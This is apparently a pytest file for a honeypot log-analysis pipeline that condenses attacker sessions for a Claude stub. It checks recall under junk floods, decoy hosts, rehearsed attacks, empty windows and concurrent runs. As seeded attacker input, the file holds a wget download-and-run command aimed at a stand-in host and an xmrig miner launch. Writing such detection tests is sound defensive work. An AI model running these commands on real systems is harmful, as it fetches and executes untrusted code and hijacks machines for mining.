"""Cases 41 to 46: floods, decoys, rehearsals, empty and doubled windows; what is small and severe stays on the page."""

import json
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from itertools import chain
from random import Random
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from benchmarks.attacks import WINDOW as BUSY
from benchmarks.attacks import background, campaigns, flood, load, numbering
from benchmarks.evaluation.recall import evaluate
from rustbucket_pipeline.analysis.digest import build_digest, digest_of
from rustbucket_pipeline.analysis.findings import find
from rustbucket_pipeline.analysis.prompt import question_of
from rustbucket_pipeline.analysis.prompt_rows import MOST_BYTES
from rustbucket_pipeline.analysis.report import AnalysisOutcome, build_analysis
from rustbucket_pipeline.model.window import Window
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline.storage.analysis_tables import indicators, log_analyses
from rustbucket_pipeline.storage.postgres import open_database
from rustbucket_pipeline.storage.tables import quarantine, segments
from rustbucket_pipeline_tests.analysis.claude_server import ClaudeServer, serving
from rustbucket_pipeline_tests.analysis.conftest import changed
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, event, fleet, heard_until, session, tell

FETCH = "cd /tmp; wget http://203.0.113.{}/x.sh; chmod 777 x.sh; ./x.sh"


@pytest.fixture
def claude() -> Iterator[ClaudeServer]:
    with serving() as server:
        yield server


@pytest.fixture
def asking(settings: Settings, claude: ClaudeServer) -> Settings:
    """Settings with a key, whose Claude is on loopback."""
    return changed(settings, ANTHROPIC_API_KEY="sk-ant-canary-7f3e", CLAUDE_BASE_URL=claude.url)


def document(engine: Engine, window: Window) -> dict[str, Any]:
    """What Claude would be shown of the window."""
    with engine.connect() as connection, connection.begin() as transaction:
        text = question_of(digest_of(connection, window), find(connection, window)).document
        transaction.rollback()
    assert len(text) <= MOST_BYTES
    return json.loads(text)


def analysed(engine: Engine, settings: Settings) -> AnalysisOutcome:
    build_digest(engine, WINDOW, NOW, None)
    return build_analysis(engine, settings, WINDOW, NOW, None)


@pytest.mark.parametrize("junk", [3_000, pytest.param(100_000, marks=pytest.mark.long)])
def test_case_41_junk_on_top_of_a_full_window_hides_no_campaign(database: Engine, junk: int) -> None:
    random, numbers = Random(41), numbering()
    seeded = campaigns(random, "severe", many=10, single=5)
    sessions = chain.from_iterable(campaign.sessions for campaign in seeded)
    load(database, BUSY, chain(background(random, 2_000), sessions), numbers)
    alone = evaluate(database, seeded)
    load(database, BUSY, flood(random, "junk", junk), numbers)
    drowned = evaluate(database, seeded)
    assert (drowned.held, drowned.shown) == (alone.held, alone.shown) == (10, dict.fromkeys((8, 16, 24), 10))
    assert max(drowned.bytes.values()) <= MOST_BYTES
    with database.connect() as connection, connection.begin() as transaction:
        told = digest_of(connection, BUSY).clusters
        transaction.rollback()
    assert told.sessions > junk
    assert told.total == len(told.rows) + len(told.brief) + told.hidden, "what isn't shown is counted"


@pytest.mark.parametrize("decoys", [2_000, pytest.param(100_000, marks=pytest.mark.long)])
def test_case_42_decoy_hosts_are_one_behaviour_and_every_one_of_them_is_in_the_table(
    database: Engine, decoys: int
) -> None:
    load(database, BUSY, flood(Random(42), "severe", decoys), numbering())
    build_digest(database, BUSY, NOW, None)
    with database.connect() as connection:
        hosts = select(func.count()).select_from(indicators).where(indicators.c.type == "host")
        assert connection.execute(hosts).scalar_one() > decoys * 0.99, "drawn at random, some twice"
    told = document(database, BUSY)
    (row,) = told["clusters"]
    assert (row["sessions"], row["severity"]) == (decoys, "high")
    assert told["indicators_not_shown"] > decoys


def test_case_43_what_was_rehearsed_for_a_week_is_still_severe_and_shown(database: Engine) -> None:
    days = [WINDOW.start - timedelta(days=day) for day in range(9)]
    for number, day in enumerate(days):
        session(database, FETCH.format(number), at=day)
    tell(database, [command(FETCH.format(number), day) for number, day in enumerate(days)])
    told = document(database, WINDOW)
    assert ("download-and-run" in told["clusters"][0]["rules"], told["clusters"][0]["severity"]) == (True, "high")
    assert "new" not in told["clusters"][0]
    assert told["findings"][0]["severity"] == "high"


def nothing(_: Engine) -> None:
    """An empty window."""


def one_event(engine: Engine) -> None:
    tell(engine, [event("connection", 5, src_ip="203.0.113.5")])


def failures_only(engine: Engine) -> None:
    fleet(engine, "BKT1")
    heard_until(engine, "BKT1", WINDOW.end)
    with engine.begin() as connection:
        segment = connection.execute(select(segments.c.id)).scalar_one()
        row = {"segment_id": segment, "byte_offset": 0, "byte_length": 1, "event_ts": WINDOW.start}
        connection.execute(quarantine.insert().values(**row, reason="no record", excerpt=b"\x00"))


@pytest.mark.parametrize("fill", [nothing, one_event, failures_only])
def test_case_44_an_empty_window_has_a_report_and_costs_nothing(
    database: Engine, asking: Settings, claude: ClaudeServer, fill: Callable[[Engine], None]
) -> None:
    fill(database)
    outcome = analysed(database, asking)
    assert (outcome.status, outcome.severity, outcome.cost_usd) == ("deterministic", "info", 0)
    assert outcome.headline
    assert claude.paths == []


def test_case_45_twice_and_twice_at_once_is_one_call_and_one_report(
    database: Engine, asking: Settings, claude: ClaudeServer
) -> None:
    claude.scenes = ["slow"]
    tell(database, [command(FETCH.format(9))])
    build_digest(database, WINDOW, NOW, None)
    engines = [open_database(asking) for _ in range(3)]
    with ThreadPoolExecutor() as pool:
        runs = [pool.submit(build_analysis, engine, asking, WINDOW, NOW, None) for engine in engines]
        outcomes = [run.result() for run in runs]
    outcomes.append(build_analysis(database, asking, WINDOW, NOW, None))
    for engine in engines:
        engine.dispose()
    assert len({outcome.output_version for outcome in outcomes}) == 1
    assert sum(outcome.changed for outcome in outcomes) == 1
    assert len(claude.requests) == 1


def test_case_46_late_events_are_a_new_revision_and_the_old_one_is_kept(
    database: Engine, asking: Settings, claude: ClaudeServer
) -> None:
    tell(database, [command(FETCH.format(9))])
    first = analysed(database, asking)
    tell(database, [command("nohup ./xmrig --donate-level 1 &", 30)])
    second = analysed(database, asking)
    with database.connect() as connection:
        kept = connection.execute(select(log_analyses).order_by(log_analyses.c.revision)).all()
    assert [row.revision for row in kept] == [first.revision, second.revision] == [1, 2]
    assert kept[0].digest_sha256 != kept[1].digest_sha256
    assert len(kept[0].report["findings"]) < len(kept[1].report["findings"])
    assert len(claude.requests) == 2
